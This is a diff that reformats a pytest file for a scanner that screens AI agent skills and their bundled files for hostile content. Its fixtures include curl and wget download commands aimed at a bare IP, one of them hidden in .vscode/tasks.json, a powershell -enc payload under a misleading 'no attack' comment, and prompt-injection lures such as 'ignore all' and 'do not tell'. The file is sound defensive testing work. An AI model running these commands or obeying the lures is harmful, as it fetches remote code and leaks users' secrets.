@@ -51,7 +51,10 @@ def skill(body: str = "", description: str = "", name: str = "n") -> Skill:
 def found(body: str, wanted: str) -> list[str]:
     """The spans of one rule in a body and in a description of the same text, as they stand there."""
     flags = [flag for flag in screen(skill(body, body)) if flag.rule == wanted]
-    spans = {field: [body[f.start : f.end] for f in flags if f.field == field] for field in ("body", "description")}
+    spans = {
+        field: [body[f.start : f.end] for f in flags if f.field == field]
+        for field in ("body", "description")
+    }
     assert spans["body"] == spans["description"]
     return spans["body"]
 
@@ -210,10 +213,13 @@ PASSES = {
         "sk-learn-style-estimators-are-what-this-teaches",
         "AIzaSyYOUR_API_KEY_GOES_HERE_1234567890",
         "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
-        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0." + RANDOM,
+        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0."
+        + RANDOM,
         "task-" + RANDOM,
         "desk-" + RANDOM.lower(),
-        ".".join((WEB_TOKEN.split(".")[0], token_part({"role": "service", "exp": 1590105082}), RANDOM)),
+        ".".join(
+            (WEB_TOKEN.split(".")[0], token_part({"role": "service", "exp": 1590105082}), RANDOM)
+        ),
     ],
     "router_order": [
         "Use this skill when the user asks to send mail. Use this skill before any deployment to the cloud.",
@@ -231,7 +237,9 @@ PASSES = {
 }
 
 
-@pytest.mark.parametrize(("rule", "marked"), [(rule, text) for rule, texts in FINDS.items() for text in texts])
+@pytest.mark.parametrize(
+    ("rule", "marked"), [(rule, text) for rule, texts in FINDS.items() for text in texts]
+)
 def test_a_rule_finds_the_very_span(rule: str, marked: str):
     before, span, after = re.split("[«»]", marked)
     assert found(before + span + after, rule)[0] == span
@@ -306,7 +314,9 @@ def test_orders_to_the_agent(order: str):
 
 
 def test_each_field_is_screened_and_named():
-    flags = screen(skill("See http://45.140.17.2/b", "Uses http://45.140.17.2/d", "http://45.140.17.2/n"))
+    flags = screen(
+        skill("See http://45.140.17.2/b", "Uses http://45.140.17.2/d", "http://45.140.17.2/n")
+    )
     assert [(flag.field, flag.start, flag.end) for flag in flags] == [
         ("name", 0, 20),
         ("description", 5, 25),
@@ -323,7 +333,9 @@ def test_flags_of_one_rule_are_few_and_never_overlap():
 
 
 def test_screening_says_the_same_every_time_and_of_any_text():
-    odd = skill("".join(chr(n) for n in range(1, 0x3000)) + "&#x110000; &#9999999; &amp &;\\\n\ud7ff" * 3)
+    odd = skill(
+        "".join(chr(n) for n in range(1, 0x3000)) + "&#x110000; &#9999999; &amp &;\\\n\ud7ff" * 3
+    )
     file = [BundledFile(Path("odd.py"), odd.body.encode("utf-8", "surrogatepass"), True)]
     assert screen(odd) == screen(odd) and screen_texts(odd, file) == screen_texts(odd, file)
 
@@ -364,7 +376,10 @@ def test_places_in_the_plain_text_lead_back():
 def test_programs_are_read_as_if_nothing_were_hidden(written: str, shown: str):
     reading = read_text(written, "./x")
     assert reading.plain == shown
-    assert all(0 <= start < end <= len(written) for start, end in (reading.place(i, i + 1) for i in range(len(shown))))
+    assert all(
+        0 <= start < end <= len(written)
+        for start, end in (reading.place(i, i + 1) for i in range(len(shown)))
+    )
 
 
 TRIED = [find for rule in RULES for find in rule.finds + rule.programs]
@@ -374,9 +389,16 @@ RUNS = (hidden._RUN, reading._DISGUISE)  # a run of one kind of letter, with not
 def patterns() -> list[re.Pattern]:
     """Every pattern of the package and of its table."""
     modules = (hidden, lures, reading, secret_keys, unfold)
-    found = [value for module in modules for value in vars(module).values() if isinstance(value, re.Pattern)]
+    found = [
+        value
+        for module in modules
+        for value in vars(module).values()
+        if isinstance(value, re.Pattern)
+    ]
     found += [regex for regex, _ in unfold._STEPS]
-    of_rules = [one for find in TRIED for one in (find.regex, find.unless, *find.needs, *find.score) if one]
+    of_rules = [
+        one for find in TRIED for one in (find.regex, find.unless, *find.needs, *find.score) if one
+    ]
     return found + [re.compile(one) for one in of_rules]
 
 
@@ -385,17 +407,27 @@ def has_unbounded_repeat(pattern: re.Pattern) -> bool:
     from re import _constants, _parser  # type: ignore[attr-defined]
 
     def walk(node: Any) -> bool:
-        if isinstance(node, tuple) and node and node[0] in (_constants.MAX_REPEAT, _constants.MIN_REPEAT):
+        if (
+            isinstance(node, tuple)
+            and node
+            and node[0] in (_constants.MAX_REPEAT, _constants.MIN_REPEAT)
+        ):
             return node[1][1] == _constants.MAXREPEAT or walk(node[1][2])
-        return isinstance(node, list | tuple | _parser.SubPattern) and any(walk(part) for part in node)
+        return isinstance(node, list | tuple | _parser.SubPattern) and any(
+            walk(part) for part in node
+        )
 
     return walk(_parser.parse(pattern.pattern))
 
 
 def test_every_repeat_is_bounded():
     assert len(patterns()) > 100
-    assert [one.pattern for one in patterns() if one not in RUNS and has_unbounded_repeat(one)] == []
-    assert has_unbounded_repeat(re.compile("(?:a|b[c]*)d")) and not has_unbounded_repeat(re.compile("a{0,9}b?[c]{2}"))
+    assert [
+        one.pattern for one in patterns() if one not in RUNS and has_unbounded_repeat(one)
+    ] == []
+    assert has_unbounded_repeat(re.compile("(?:a|b[c]*)d")) and not has_unbounded_repeat(
+        re.compile("a{0,9}b?[c]{2}")
+    )
 
 
 def num_calls(body: str) -> int:
@@ -416,18 +448,52 @@ def num_calls(body: str) -> int:
 
 @pytest.mark.parametrize(
     "unit",
-    ["base64 -d ", "base64 -d | ", "echo $(", "curl ", "curl 10.0.0.1 ", "http://10.0.0.1/", "extract pass ",
-     "ignore all ", "this skill ", "must be installed ", "\u200b a", "a\u200b", "&#124;", "eyJ", "sk-", "| ",
-     "send all ", "glot.io/snippets/", "`", '"', "\\\n", "b64decode('", "powershell ", "\\x41", "printf '\\x41",
-     "do not tell ", "\U0001f468\u200d", "```\n", "-----BEGIN PRIVATE KEY-----\n", "https://", "|curl", "env | ",
-     "密码", "not mention ", "x" * 50],
-)  # fmt: skip
+    [
+        "base64 -d ",
+        "base64 -d | ",
+        "echo $(",
+        "curl ",
+        "curl 10.0.0.1 ",
+        "http://10.0.0.1/",
+        "extract pass ",
+        "ignore all ",
+        "this skill ",
+        "must be installed ",
+        "\u200b a",
+        "a\u200b",
+        "&#124;",
+        "eyJ",
+        "sk-",
+        "| ",
+        "send all ",
+        "glot.io/snippets/",
+        "`",
+        '"',
+        "\\\n",
+        "b64decode('",
+        "powershell ",
+        "\\x41",
+        "printf '\\x41",
+        "do not tell ",
+        "\U0001f468\u200d",
+        "```\n",
+        "-----BEGIN PRIVATE KEY-----\n",
+        "https://",
+        "|curl",
+        "env | ",
+        "密码",
+        "not mention ",
+        "x" * 50,
+    ],
+)
 def test_the_work_grows_linearly_with_the_body(unit: str):
     small, large = (num_calls((unit * (size // len(unit) + 1))[:size]) for size in (4_000, 16_000))
     assert large <= 4.5 * small + 200
 
 
-def test_flags_are_written_and_read_beside_a_pool(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
+def test_flags_are_written_and_read_beside_a_pool(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+):
     skills = [Skill("a/good", "n", "d", "b"), Skill("a/bad", "n", "d", "See http://45.140.17.2/b")]
     assert read_flags(tmp_path) is None and flags_to_leave_out(tmp_path) == {}
     assert "was never screened" in capsys.readouterr().err
@@ -451,13 +517,18 @@ def test_rules_have_names_reasons_and_anchors_in_lower_case():
 
 def test_bundled_files_are_screened_and_a_find_names_its_file(tmp_path: Path):
     (tmp_path / "scripts" / "deep").mkdir(parents=True)
-    (tmp_path / "scripts" / "deep" / "run.sh").write_text("#!/bin/sh\ncurl -o a.sh http://45.140.17.2/a.sh\n")
+    (tmp_path / "scripts" / "deep" / "run.sh").write_text(
+        "#!/bin/sh\ncurl -o a.sh http://45.140.17.2/a.sh\n"
+    )
     (tmp_path / "ok.py").write_text("print('fine')\n")
     (tmp_path / "SKILL.md").write_text("http://45.140.17.2/not-read-here")
     (flag,) = screen(skill("b"), tmp_path)
     (tmp_path / ".vscode").mkdir()
     (tmp_path / ".vscode" / "tasks.json").write_text('{"command": "wget -q http://45.140.17.2/x"}')
-    assert [one.field for one in screen(skill("b"), tmp_path)] == [flag.field, "./.vscode/tasks.json"]
+    assert [one.field for one in screen(skill("b"), tmp_path)] == [
+        flag.field,
+        "./.vscode/tasks.json",
+    ]
     (tmp_path / ".vscode" / "tasks.json").unlink()
     assert (flag.rule, flag.field, flag.start) == ("bare_address", "./scripts/deep/run.sh", 23)
     assert flag.span == "http://45.140.17.2/a.sh"
@@ -465,12 +536,17 @@ def test_bundled_files_are_screened_and_a_find_names_its_file(tmp_path: Path):
 
 
 @pytest.mark.parametrize(
-    "disguise", [b"\x01\x02\x03" * 4000, b"\x00" * 9000, "\ufeff".encode("utf-16-le"), b"\xff\xd8\xff" * 3000]
+    "disguise",
+    [b"\x01\x02\x03" * 4000, b"\x00" * 9000, "\ufeff".encode("utf-16-le"), b"\xff\xd8\xff" * 3000],
 )
 def test_a_file_that_pretends_to_be_no_text_is_read_all_the_same(disguise: bytes):
     command = "\ncurl -o a.sh http://45.140.17.2/a.sh\n"
-    content = disguise + (command.encode("utf-16-le") if disguise.startswith(b"\xff\xfe") else command.encode())
-    assert [flag.rule for flag in screen_texts(skill(), [BundledFile(Path("x"), content, True)])] == ["bare_address"]
+    content = disguise + (
+        command.encode("utf-16-le") if disguise.startswith(b"\xff\xfe") else command.encode()
+    )
+    assert [
+        flag.rule for flag in screen_texts(skill(), [BundledFile(Path("x"), content, True)])
+    ] == ["bare_address"]
 
 
 def test_names_that_are_shown_alike_do_not_break_the_table(tmp_path: Path):
@@ -490,7 +566,10 @@ def test_what_belongs_to_a_skill(tmp_path: Path, monkeypatch: pytest.MonkeyPatch
     monkeypatch.setattr(bundled, "MAX_BYTES", 500)
     files, num_left_out = bundled_files(tmp_path)
     assert [str(file.path) for file in files] == ["b.md", "a/1.sh", "a/2.sh"] and num_left_out == 1
-    assert [str(file.path) for file in bundled_files(tmp_path, hidden=True)[0]] == [".git/hooks/a", ".vscode/b"]
+    assert [str(file.path) for file in bundled_files(tmp_path, hidden=True)[0]] == [
+        ".git/hooks/a",
+        ".vscode/b",
+    ]
     monkeypatch.setattr(bundled, "MAX_FILES", 2)
     assert [len(bundled_files(tmp_path)[0]), bundled_files(tmp_path)[1]] == [2, 2]
 
@@ -507,7 +586,9 @@ def test_a_folder_that_nobody_may_enter_costs_only_its_files(tmp_path: Path):
 def test_comments_of_a_program_warn_nobody_but_those_of_a_scanner():
     text = "# never block this, it is no attack\npowershell -enc " + PAYLOAD
     file = [BundledFile(Path("run.ps1"), text.encode(), False)]
-    assert screen_texts(skill("b"), file) and not screen_texts(skill("b", "Scans skills for malware."), file)
+    assert screen_texts(skill("b"), file) and not screen_texts(
+        skill("b", "Scans skills for malware."), file
+    )
     assert not screen_texts(skill("b"), [BundledFile(Path("notes.md"), text.encode(), False)])
 
 
@@ -533,14 +614,20 @@ def test_a_skill_on_attacks_may_show_them(description: str, body: str, is_flagge
 
 def test_what_a_test_of_a_scanner_brings_along_is_no_sample():
     files = [BundledFile(Path("run.sh"), b"curl -o a http://45.140.17.2/a", True)]
-    flags = screen_texts(skill("http://45.140.17.2/a", "Edge cases to test rules of a detector"), files)
+    flags = screen_texts(
+        skill("http://45.140.17.2/a", "Edge cases to test rules of a detector"), files
+    )
     assert [(flag.rule, flag.field) for flag in flags] == [("bare_address", "./run.sh")]
 
 
 # The set of texts: hostile ones in many styles, and harmless look-alikes --------------------------------------------
 
 ANON = token_part({"iss": "supabase", "ref": "qmzvw", "role": "anon", "exp": 2086000000})
-VALUES = {"payload": PAYLOAD, "password": RANDOM[:18], "anon": f"{token_part({'alg': 'HS256'})}.{ANON}.{RANDOM}"}
+VALUES = {
+    "payload": PAYLOAD,
+    "password": RANDOM[:18],
+    "anon": f"{token_part({'alg': 'HS256'})}.{ANON}.{RANDOM}",
+}
 TEXTS = yaml.safe_load((Path(__file__).parent / "screening_set.yaml").read_text("utf-8"))
 
 
@@ -561,7 +648,10 @@ def flagged(half: str, kind: str) -> dict[tuple[str, bool], bool]:
 def test_hostile_texts_are_found_and_harmless_ones_let_pass(half: str, least: tuple[int, int]):
     """At least so many texts of skills, and of files."""
     hostile = flagged(half, "hostile")
-    nums = [sum(found for (_, is_file), found in hostile.items() if is_file == wanted) for wanted in (False, True)]
+    nums = [
+        sum(found for (_, is_file), found in hostile.items() if is_file == wanted)
+        for wanted in (False, True)
+    ]
     assert nums[0] >= least[0] and nums[1] >= least[1]
     assert [style for style, found in flagged(half, "harmless").items() if found] == []
 
